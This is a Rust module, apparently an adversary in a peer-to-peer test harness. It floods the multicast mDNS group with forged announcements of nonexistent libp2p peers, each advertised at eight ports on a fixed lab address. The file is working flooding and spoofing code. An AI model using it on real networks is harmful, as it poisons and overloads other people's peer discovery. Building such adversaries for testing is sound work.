//! An attacker who announces peers that do not exist.

use std::net::UdpSocket;

use net::{Identity, PeerId};

use crate::pair::say;

/// Announces so many peers, for ever, each at eight ports.
pub fn announce(peers: u64) {
    let socket = UdpSocket::bind("10.77.1.2:0").expect("the end has this address");
    let mut seed = [0xf1; 32];
    for number in 0..peers {
        seed[..8].copy_from_slice(&number.to_le_bytes());
        let packet = announcement(Identity::from_seed(seed).peer());
        // What the cable does not take is lost; there is more.
        let _ = socket.send_to(&packet, "224.0.0.251:5353");
    }
    say("flooded");
}

/// A DNS answer with one PTR record and, beside it, a TXT record for each address.
fn announcement(peer: PeerId) -> Vec<u8> {
    const PTR: u16 = 12;
    const TXT: u16 = 16;
    let (service, name) = (name(&["_p2p", "_udp", "local"]), name(&["a"]));
    let counts = [0, 0x8400, 0, 1, 0, 8_u16];
    let mut packet: Vec<u8> = counts.into_iter().flat_map(u16::to_be_bytes).collect();
    packet.extend(record(&service, PTR, &name));
    for port in 1..=8 {
        let text = format!("dnsaddr=/ip4/10.77.1.2/tcp/{port}/p2p/{peer}");
        let length = u8::try_from(text.len()).expect("short");
        packet.extend(record(&name, TXT, &[&[length], text.as_bytes()].concat()));
    }
    packet
}

fn record(name: &[u8], kind: u16, data: &[u8]) -> Vec<u8> {
    const INTERNET: u16 = 1;
    let length = u16::try_from(data.len()).expect("short");
    let mut record = name.to_vec();
    record.extend(kind.to_be_bytes());
    record.extend(INTERNET.to_be_bytes());
    record.extend(u32::MAX.to_be_bytes());
    record.extend(length.to_be_bytes());
    record.extend(data);
    record
}

fn name(labels: &[&str]) -> Vec<u8> {
    let label = |label: &&str| {
        let length = u8::try_from(label.len()).expect("short");
        [&[length], label.as_bytes()].concat()
    };
    labels.iter().flat_map(label).chain([0]).collect()
}
